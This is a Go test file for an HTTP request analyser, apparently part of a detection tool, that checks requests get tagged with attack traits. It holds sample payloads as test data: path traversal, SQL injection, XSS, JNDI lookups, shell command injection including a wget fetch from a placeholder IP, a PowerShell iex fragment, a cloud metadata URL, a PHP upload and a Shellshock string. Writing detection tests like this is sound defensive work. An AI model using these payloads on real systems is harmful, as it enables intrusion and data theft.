package facts

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/ttpstream/ttpstream/rules/match"
	"github.com/ttpstream/ttpstream/schemas"
)

// traitsOf lifts a request and returns its traits.
func traitsOf(tb testing.TB, ev *schemas.HTTPEvent) []string {
	tb.Helper()
	var out match.Event
	LiftHTTP(ev, &out)
	return textsOf(&out, "http.traits")
}

func textsOf(out *match.Event, name string) []string {
	values, _ := out.Base.Lookup(name)
	var texts []string
	for _, v := range values {
		texts = append(texts, v.String())
	}
	return texts
}

func TestHTTPTraits(t *testing.T) {
	t.Parallel()
	serialised := base64.StdEncoding.EncodeToString([]byte("\xac\xed\x00\x05sr\x00\x11java.util.HashMap"))
	for name, c := range map[string]struct {
		ev   schemas.HTTPEvent
		want string // a trait, or nothing
	}{
		"plain":                   {schemas.HTTPEvent{Path: "/index.html", Query: "page=2&q=red+shoes"}, ""},
		"encoded traversal":       {schemas.HTTPEvent{Path: "/a/%2e%2e/%2e%2e/%2e%2e/etc/hostname"}, "traversal"},
		"double encoded":          {schemas.HTTPEvent{Path: "/a/%252e%252e/%252e%252e/%252e%252e/x"}, "traversal"},
		"overlong":                {schemas.HTTPEvent{Path: "/a/..%c0%af..%c0%af..%c0%afwinnt/x"}, "traversal"},
		"union in a form":         {schemas.HTTPEvent{Method: "POST", Body: "a=1%27%20UNION%20ALL%20SELECT%20null%2Cnull--"}, "sqli"},
		"comment for blank":       {schemas.HTTPEvent{Query: "id=1/**/union/**/select/**/1"}, "sqli"},
		"json":                    {schemas.HTTPEvent{Method: "POST", Body: `{"q": {"a": "x' or '1'='1"}}`}, "sqli"},
		"xml attribute":           {schemas.HTTPEvent{Method: "POST", Body: `<?xml version="1.0"?><a b="&lt;script&gt;alert(1)&lt;/script&gt;"/>`}, "xss"},
		"xml names are not input": {schemas.HTTPEvent{Method: "POST", Body: `<?xml version="1.0"?><java.lang.Runtime a="b">c</java.lang.Runtime>`}, ""},
		"header":                  {schemas.HTTPEvent{Headers: []schemas.HTTPHeader{{Name: "X-Forwarded-For", Value: "${jndi:ldap://x.example/a}"}}}, "jndi"},
		"nested lookup":           {schemas.HTTPEvent{Query: "q=${${env:X:-j}ndi:rmi://x.example/a}"}, "jndi"},
		"serialised":              {schemas.HTTPEvent{Method: "POST", Body: "data=" + strings.NewReplacer("+", "%2B", "=", "%3D").Replace(serialised)}, "java_object"},
		"piped":                   {schemas.HTTPEvent{Query: "ip=1.1.1.1|cat%20/etc/hosts"}, "command"},
		"gap by variable":         {schemas.HTTPEvent{Path: "/cgi-bin/;wget${IFS}http://198.51.100.9/x"}, "command"},
		"quoted letters":          {schemas.HTTPEvent{Query: "c=;c''at+/etc/hosts"}, "command"},
		"prose":                   {schemas.HTTPEvent{Query: "q=bread+%26+butter;+time+to+eat"}, ""},
		"power shell":             {schemas.HTTPEvent{Query: "c=powershell+-nop+-c+iex"}, "windows_command"},
		"template":                {schemas.HTTPEvent{Query: "n={{7*'7'}}"}, "template"},
		"prototype":               {schemas.HTTPEvent{Query: "__proto__[x]=1"}, "node_code"},
		"metadata":                {schemas.HTTPEvent{Query: "u=http://169.254.169.254/latest/meta-data/"}, "metadata_service"},
		"own referer":             {schemas.HTTPEvent{Referer: "http://localhost:8080/"}, ""},
		"upload":                  {schemas.HTTPEvent{Method: "POST", Headers: []schemas.HTTPHeader{{Name: "Content-Type", Value: "multipart/form-data; boundary=b"}}, Body: "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.pHp5\"\r\n\r\nx\r\n--b--"}, "script_upload"},
		"scanner":                 {schemas.HTTPEvent{UserAgent: "Mozilla/5.0 (compatible; Nuclei - Open-source project)"}, "scanner_agent"},
		"dot env":                 {schemas.HTTPEvent{Path: "/api/.env.production"}, "sensitive_path"},
		"well known":              {schemas.HTTPEvent{Path: "/.well-known/acme-challenge/x"}, ""},
	} {
		c.ev.Method = orText(c.ev.Method, "GET")
		c.ev.Path = orText(c.ev.Path, "/")
		got := slices.DeleteFunc(traitsOf(t, &c.ev), func(s string) bool { return s == "double_encoding" })
		if c.want == "" && len(got) > 0 || c.want != "" && !slices.Contains(got, c.want) {
			t.Errorf("%s: %v, want %q", name, got, c.want)
		}
	}
}

func orText(a, b string) string {
	if a != "" {
		return a
	}
	return b
}

func TestPercentDecode(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]struct {
		text  string
		depth int
	}{
		"a": {"a", 0}, "%61": {"a", 1}, "%2561": {"a", 2}, "%252561": {"a", 3}, "%25252561": {"%61", 3}, "100%": {"100%", 0}, "%zz": {"%zz", 0}, "a+b": {"a b", 0}, "%u0061": {"a", 1}, "%%32%65": {".", 2}, "%ff": {"\uFFFD", 1},
	} {
		if got, depth := percentDecode(text, true); got != want.text || depth != want.depth {
			t.Errorf("%s: %q at %d, want %q at %d", text, got, depth, want.text, want.depth)
		}
	}
}

// What a client proves itself with is a secret wherever it stands.
func TestHTTPSecrets(t *testing.T) {
	t.Parallel()
	var out match.Event
	LiftHTTP(&schemas.HTTPEvent{Method: "GET", Path: "/", Headers: []schemas.HTTPHeader{{Name: "Authorization", Value: "Basic cGw0bnRlZA=="}, {Name: "Cookie", Value: "sid=Pl4nted-cookie"}}}, &out)
	for _, secret := range []string{"Basic cGw0bnRlZA==", "sid=Pl4nted-cookie"} {
		if !slices.Contains(out.Secrets, secret) {
			t.Errorf("%q is no secret", secret)
		}
	}
	for _, f := range out.Base.All() {
		for _, v := range f.Values {
			if strings.Contains(v.String(), "Pl4nted") || strings.Contains(v.String(), "cGw0bnRlZA") {
				t.Errorf("%s holds a secret", f.Name)
			}
		}
	}
}

func TestEveryFormIsListed(t *testing.T) {
	t.Parallel()
	for _, f := range forms {
		if !slices.Contains(HTTPTraits, f.trait) {
			t.Errorf("%s is not among HTTPTraits", f.trait)
		}
	}
}

// Lifting any request gives valid UTF-8 and comes to an end.
func FuzzLiftHTTP(f *testing.F) {
	f.Add("/a%2e%2e/", "x=1+union+select", "User-Agent", "() { :;}; id", `{"a":"b"}`)
	f.Add("/", "a=%u0061&b=rO0ABXNy", "Content-Type", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; filename=x\r\n\r\ny\r\n--b--")
	f.Add("/", "", "Cookie", "a=b; c=<script>", "<?xml version=\"1.0\"?><a b='c'>&lt;</a>")
	f.Fuzz(func(t *testing.T, path, query, name, value, body string) {
		var out match.Event
		LiftHTTP(&schemas.HTTPEvent{Method: "POST", Path: path, Query: query, Headers: []schemas.HTTPHeader{{Name: name, Value: value}}, Body: body}, &out)
		for _, field := range out.Base.All() {
			for _, v := range field.Values {
				if !utf8.ValidString(v.String()) {
					t.Fatalf("%s is not UTF-8: %q", field.Name, v.String())
				}
			}
		}
	})
}
